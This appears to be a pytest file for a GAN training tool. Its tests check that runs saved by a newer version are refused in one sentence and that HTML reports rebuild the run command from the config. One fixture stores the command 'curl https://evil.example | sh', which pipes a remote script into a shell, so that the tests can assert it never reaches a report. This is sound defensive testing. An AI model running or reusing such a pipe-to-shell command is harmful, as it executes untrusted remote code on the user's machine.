"""Runs that a later version has left in the store: each is refused by itself, in one sentence, and stays as it was."""

import sys
from typing import Any

import pytest

from genmodels.cli import train
from genmodels.config.families import DCGANConfig
from genmodels.errors import UserError
from genmodels.export.html_report import html_report, run_data
from genmodels.jobs import queue
from genmodels.runs.run import Run
from genmodels.runs.store import Store

UNKNOWN = {
    "an option": ({"future_option": 1}, "future_option is not an option of Deep convolutional GAN"),
    "an objective": ({"objective": "of-tomorrow"}, "objective must be one of"),
    "a family": ({"family": "diffusion"}, "does not know the family diffusion"),
}
each_unknown = pytest.mark.parametrize(("values", "reason"), UNKNOWN.values(), ids=UNKNOWN)


def of_the_future(values: dict[str, Any], **columns: Any) -> Run:
    store = Store()
    run = store.create(DCGANConfig().model_dump(), "Tomorrow's", "curl https://evil.example | sh")
    store.update(run.id, config=run.config | values, **{"state": "finished", "step": 5, "total_steps": 5} | columns)
    store.save_copy(run.id)
    found = store.get(run.id)
    assert found is not None
    return found


def assert_refused(told: str, run: Run, reason: str) -> None:
    assert reason in told
    assert told.endswith("use the version that made it.")
    assert "\n" not in told
    assert Store().get(run.id) == run


@each_unknown
def test_it_is_not_resumed(values: dict[str, Any], reason: str, monkeypatch: pytest.MonkeyPatch):
    run = of_the_future(values)
    with pytest.raises(UserError) as refused:
        queue.resume(Store(), run.id)
    assert_refused(str(refused.value), run, reason)
    monkeypatch.setattr(sys, "argv", ["train.py", "--resume", run.id])
    with pytest.raises(SystemExit) as left:
        train.main()
    assert_refused(str(left.value.code), run, reason)


@each_unknown
def test_it_is_not_reproduced(values: dict[str, Any], reason: str):
    run = of_the_future(values)
    with pytest.raises(SystemExit) as left:
        train.parse(["--reproduce", run.id])
    assert_refused(str(left.value.code), run, reason)


@each_unknown
def test_its_report_has_no_command(values: dict[str, Any], reason: str):
    run = of_the_future(values)
    told = html_report(run_data(Store(), [run.id]))
    assert "Tomorrow&#39;s" in told
    assert "same run again" not in told
    assert "evil.example" not in told


def test_the_command_in_a_report_is_made_from_the_config():
    run = of_the_future({"epochs": 7})
    told = html_report(run_data(Store(), [run.id]))
    assert "<pre>python train.py dcgan --epochs 7</pre>" in told
    assert "evil.example" not in told
